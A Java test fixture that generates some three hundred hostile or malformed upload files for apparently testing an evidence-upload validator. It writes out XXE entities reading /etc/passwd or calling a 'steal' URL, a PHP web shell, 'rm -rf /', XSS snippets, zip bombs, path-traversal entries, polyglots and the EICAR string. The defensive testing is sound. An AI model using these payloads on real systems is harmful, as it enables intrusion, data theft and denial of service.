package org.poamtracker.evidence;

import static org.poamtracker.evidence.SampleFiles.latin;
import static org.poamtracker.evidence.SampleFiles.parts;
import static org.poamtracker.evidence.SampleFiles.text;
import static org.poamtracker.evidence.SampleFiles.with;
import static org.poamtracker.evidence.SampleFiles.written;
import static org.poamtracker.evidence.SampleFiles.zip;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.function.Supplier;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

/** Some three hundred files that must not be taken, the same at every run. */
final class HostileFiles {

    private static final List<String> OFFICE = List.of("docx", "xlsx", "pptx");
    private static final Map<String, String> MAIN =
            Map.of("docx", "word/document.xml", "xlsx", "xl/workbook.xml", "pptx", "ppt/presentation.xml");
    private static final String LAUGHS = "<!DOCTYPE lolz [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\">"
            + "<!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;\">]><x>&d;</x>";
    private static final String OUTSIDE = "<!DOCTYPE x [<!ENTITY e SYSTEM \"http://127.0.0.1:9/steal\">]><x>&e;</x>";
    private static final String INSIDE = "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>";
    private static final String EICAR = "X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + "EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*";

    /** One of them. The content is made when it is asked for. */
    record Hostile(String why, String name, Supplier<byte[]> content) {
        @Override
        public String toString() {
            return why + ": " + (name.length() > 60 ? name.substring(0, 60) + "…" : name);
        }
    }

    private final List<Hostile> all = new ArrayList<>();
    private final Random random = new Random(20261121);
    private final Map<String, byte[]> sound = SampleFiles.sound();

    static List<Hostile> all() {
        HostileFiles files = new HostileFiles();
        files.disguised();
        files.broken();
        files.noise();
        files.markupAsText();
        files.names();
        files.documentTypes();
        files.macrosAndObjects();
        files.archives();
        files.bombs();
        files.polyglots();
        files.viruses();
        return files.all;
    }

    private void add(String why, String name, byte[] content) {
        all.add(new Hostile(why, name, () -> content));
    }

    private void disguised() {
        for (String extension : List.of(
                "exe",
                "dll",
                "js",
                "html",
                "htm",
                "svg",
                "xml",
                "xccdf",
                "jar",
                "zip",
                "7z",
                "rar",
                "tar.gz",
                "docm",
                "xlsm",
                "pptm",
                "xlsb",
                "doc",
                "xls",
                "ppt",
                "rtf",
                "eml",
                "msg",
                "bat",
                "cmd",
                "ps1",
                "sh",
                "py",
                "php",
                "jsp",
                "iso",
                "lnk",
                "url",
                "hta",
                "vbs",
                "",
                "pdf.exe",
                "txt.html")) {
            add("not on the list", "proof." + extension, sound.get("pdf"));
        }
        sound.forEach((as, ignored) -> sound.forEach((is, content) -> {
            boolean bothText =
                    List.of("txt", "csv").contains(as) && List.of("txt", "csv").contains(is);
            if (!as.equals(is) && !bothText) {
                add("content is " + is, "proof." + as, content);
            }
        }));
    }

    private void broken() {
        sound.forEach((extension, content) -> add("empty", "proof." + extension, new byte[0]));
        for (String extension : List.of("png", "pdf", "docx", "xlsx", "pptx")) {
            byte[] content = sound.get(extension);
            for (int i = 0; i < 4; i++) {
                int cut = 8 + random.nextInt(content.length - 16);
                add("cut at " + cut, "proof." + extension, Arrays.copyOf(content, cut));
            }
        }
        add("only its signature", "proof.png", Arrays.copyOf(sound.get("png"), 8));
        add("only its signature", "proof.jpg", Arrays.copyOf(sound.get("jpg"), 3));
        add("only its signature", "proof.gif", Arrays.copyOf(sound.get("gif"), 6));
        add("too large", "proof.txt", null);
        all.set(all.size() - 1, new Hostile("too large", "proof.txt", () -> new byte[(25 << 20) + 1]));
    }

    private void noise() {
        for (String extension : sound.keySet()) {
            for (int i = 0; i < 5; i++) {
                byte[] noise = new byte[200 + random.nextInt(20_000)];
                random.nextBytes(noise);
                add("noise", "proof." + extension, noise);
            }
        }
    }

    private void markupAsText() {
        for (String markup : List.of(
                "<html><script>alert(1)</script></html>",
                "  \r\n\t<!DOCTYPE html><body onload=alert(1)>",
                "\uFEFF<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
                LAUGHS,
                OUTSIDE,
                INSIDE,
                "<?xml version='1.0'?><Benchmark/>",
                "<?php system($_GET[0]);",
                "#!/bin/sh\nrm -rf /\n",
                "{\\rtf1 {\\object\\objocx}}",
                "%PDF-1.4\n%%EOF",
                "a\u0000b",
                "bell \u0007",
                "escape \u001B[2J",
                "delete \u007F")) {
            add("not plain text", "proof.txt", text(markup));
            add("not plain text", "proof.csv", text(markup));
        }
        add("two bytes a character", "proof.txt", "text".getBytes(StandardCharsets.UTF_16LE));
    }

    private void names() {
        for (String name : List.of(
                "",
                ".",
                "..",
                "../..",
                "/",
                "\\",
                "   ",
                "a\u0000.pdf",
                "a.pdf\u0000.exe",
                "a\r\nX-Header: y.pdf",
                "a\u202Efdp.pdf",
                "a\u2066b.pdf",
                "a\u200B.pdf",
                "\uFEFFa.pdf",
                "a\u2028b.pdf",
                "\uDC00.pdf",
                "a.pdf:stream",
                "a.pdf::$DATA",
                "a.pdf ",
                "x".repeat(201) + ".pdf",
                "x".repeat(70_000) + ".pdf",
                "é".repeat(300) + ".pdf",
                "../".repeat(5_000) + "a.pdf")) {
            if (!name.equals("a.pdf ")) { // cleaned, and harmless then
                add("name", name, sound.get("pdf"));
            }
        }
        all.add(new Hostile("endless name", "x".repeat(50_000_000) + ".pdf", () -> sound.get("pdf")));
    }

    private void documentTypes() {
        for (String extension : OFFICE) {
            for (String xml : List.of(LAUGHS, OUTSIDE, INSIDE)) {
                add("document type", "main." + extension, with(extension, MAIN.get(extension), text(xml)));
                add("document type", "types." + extension, with(extension, "[Content_Types].xml", text(xml)));
                add("document type", "rels." + extension, with(extension, "_rels/.rels", text(xml)));
                add(
                        "wide",
                        "wide." + extension,
                        with(extension, "customXml/item1.xml", xml.getBytes(StandardCharsets.UTF_16)));
                add(
                        "far down",
                        "late." + extension,
                        with(extension, "docProps/app.xml", text(" ".repeat(90_000) + xml)));
            }
        }
    }

    private void macrosAndObjects() {
        for (String extension : OFFICE) {
            String root = MAIN.get(extension).substring(0, MAIN.get(extension).indexOf('/'));
            for (String part : List.of(
                    "/vbaProject.bin",
                    "/VBAPROJECT.BIN",
                    "/vbaData.xml",
                    "/activeX/activeX1.bin",
                    "/macrosheets/sheet1.xml")) {
                add("macro", "macro." + extension, with(extension, root + part, text("Attribute VB_Name")));
            }
            for (String part : List.of("/embeddings/oleObject1.bin", "/embeddings/setup.exe", "/embeddings/a.docm")) {
                add("packed in", "object." + extension, with(extension, root + part, new byte[] {'M', 'Z', 0, 1}));
            }
            String types = new String(parts(sound.get(extension)).get("[Content_Types].xml"), StandardCharsets.UTF_8);
            add(
                    "macro type",
                    "type." + extension,
                    with(extension, "[Content_Types].xml", text(types.replace(".main+xml", ".macroEnabled.main+xml"))));
            add(
                    "macro part",
                    "part." + extension,
                    with(
                            extension,
                            "[Content_Types].xml",
                            text(
                                    types.replace(
                                            "</Types>",
                                            "<Override PartName=\"/x.bin\" ContentType=\"application/vnd.ms-office.vbaProject\"/></Types>"))));
            for (String relation : List.of("attachedTemplate", "oleObject", "frame", "subDocument")) {
                add(
                        "reaches out",
                        "remote." + extension,
                        with(
                                extension,
                                root + "/_rels/settings.xml.rels",
                                text(
                                        "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship"
                                                + " Id=\"r\" TargetMode=\"External\" Target=\"http://127.0.0.1:9/evil.dotm\" Type=\"http://"
                                                + "schemas.openxmlformats.org/officeDocument/2006/relationships/"
                                                + relation
                                                + "\"/></Relationships>")));
            }
        }
        byte[] old = Arrays.copyOf(
                new byte[] {(byte) 0xD0, (byte) 0xCF, 0x11, (byte) 0xE0, (byte) 0xA1, (byte) 0xB1, 0x1A, (byte) 0xE1},
                4096);
        OFFICE.forEach(extension -> add("password or old format", "old." + extension, old));
    }

    private void archives() {
        for (String extension : OFFICE) {
            byte[] good = sound.get(extension);
            for (String part :
                    List.of("../evil.xml", "/etc/evil.xml", "a\\..\\evil.xml", "C:evil.xml", "word/../../evil.xml")) {
                add("part outside", "slip." + extension, with(extension, part, text("<x/>")));
            }
            add(
                    "same part twice",
                    "twice." + extension,
                    with(extension, MAIN.get(extension).toUpperCase(java.util.Locale.ROOT), text("<x/>")));
            add("no office file", "zip." + extension, zip(Map.of("readme.txt", text("hello"))));
            add("something before", "prefix." + extension, joined(latin("PK\3\4junkjunk"), good));
            add("something behind", "suffix." + extension, joined(good, text("trailing")));
            byte[] comment = good.clone();
            comment[comment.length - 2] = 7;
            add("a comment", "comment." + extension, joined(comment, text("comment")));
            byte[] secret = good.clone();
            for (int i = 0; i < secret.length - 4; i++) {
                if (secret[i] == 'P' && secret[i + 1] == 'K' && secret[i + 2] == 1 && secret[i + 3] == 2) {
                    secret[i + 8] |= 1;
                }
            }
            add("parts with a password", "secret." + extension, secret);
            byte[] wrong = good.clone();
            Arrays.fill(wrong, 60, 90, (byte) 0x5A);
            add("damaged parts", "crc." + extension, wrong);
        }
    }

    private void bombs() {
        for (String extension : OFFICE) {
            add("bomb", "bomb." + extension, bomb(extension, 1, 300 << 20));
            add("bomb of many", "bombs." + extension, bomb(extension, 60, 5 << 20));
            add(
                    "nested bomb",
                    "nested." + extension,
                    with(extension, "word/media/inner.zip", bomb(extension, 1, 64 << 20)));
            add("too many parts", "parts." + extension, bomb(extension, 6_000, 0));
            byte[] large = ("<Types>" + " ".repeat(5 << 20) + "</Types>").getBytes(StandardCharsets.US_ASCII);
            add("large structure", "types." + extension, with(extension, "[Content_Types].xml", large));
        }
    }

    private byte[] bomb(String extension, int count, int size) {
        byte[] zeros = new byte[1 << 16];
        return written(out -> {
            try (ZipOutputStream zip = new ZipOutputStream(out)) {
                for (Map.Entry<String, byte[]> part :
                        parts(sound.get(extension)).entrySet()) {
                    zip.putNextEntry(new ZipEntry(part.getKey()));
                    zip.write(part.getValue());
                }
                for (int i = 0; i < count; i++) {
                    zip.putNextEntry(new ZipEntry("media/" + i + ".dat"));
                    for (int done = 0; done < size; done += zeros.length) {
                        zip.write(zeros);
                    }
                }
            }
        });
    }

    private void polyglots() {
        byte[] zip = zip(Map.of("evil.class", text("x")));
        for (String extension : List.of("png", "gif", "jpg", "pdf")) {
            add("and an archive", "jar." + extension, joined(sound.get(extension), zip));
        }
        for (String script :
                List.of("<script>alert(1)</script>", "<?php system('id'); ?>", "<!doctype html>", "<HTML>")) {
            add("and a script", "page.gif", joined(sound.get("gif"), text(script + ";")));
            add("and a script", "page.jpg", joined(sound.get("jpg"), text(script)));
            add("and a script", "page.jpeg", joined(sound.get("jpg"), script.getBytes(StandardCharsets.UTF_16LE)));
        }
        byte[] commented = joined(
                Arrays.copyOf(sound.get("jpg"), 2),
                new byte[] {(byte) 0xFF, (byte) 0xFE, 0, 12},
                text("%PDF-1.4\n\n"),
                Arrays.copyOfRange(sound.get("jpg"), 2, sound.get("jpg").length));
        add("and a PDF", "both.jpg", commented);
        add("and a PDF", "both.pdf", commented);
        add("something before", "late.pdf", joined(text("junk\n"), sound.get("pdf")));
        add("something behind", "tail.png", joined(sound.get("png"), text("tail")));
        OFFICE.forEach(extension -> add("stored PDF", "pdf." + extension, storedFirst(extension)));
    }

    private byte[] storedFirst(String extension) {
        byte[] pdf = sound.get("pdf");
        return written(out -> {
            try (ZipOutputStream zip = new ZipOutputStream(out)) {
                ZipEntry stored = new ZipEntry("a.bin");
                stored.setMethod(ZipEntry.STORED);
                stored.setSize(pdf.length);
                java.util.zip.CRC32 crc = new java.util.zip.CRC32();
                crc.update(pdf);
                stored.setCrc(crc.getValue());
                zip.putNextEntry(stored);
                zip.write(pdf);
                for (Map.Entry<String, byte[]> part :
                        parts(sound.get(extension)).entrySet()) {
                    zip.putNextEntry(new ZipEntry(part.getKey()));
                    zip.write(part.getValue());
                }
            }
        });
    }

    private void viruses() {
        for (String extension : sound.keySet()) {
            add("test virus", "eicar." + extension, text(EICAR));
        }
        OFFICE.forEach(
                extension -> add("test virus", "eicar2." + extension, with(extension, "media/a.dat", text(EICAR))));
    }

    private static byte[] joined(byte[]... pieces) {
        return written(out -> {
            for (byte[] piece : pieces) {
                out.write(piece);
            }
        });
    }
}
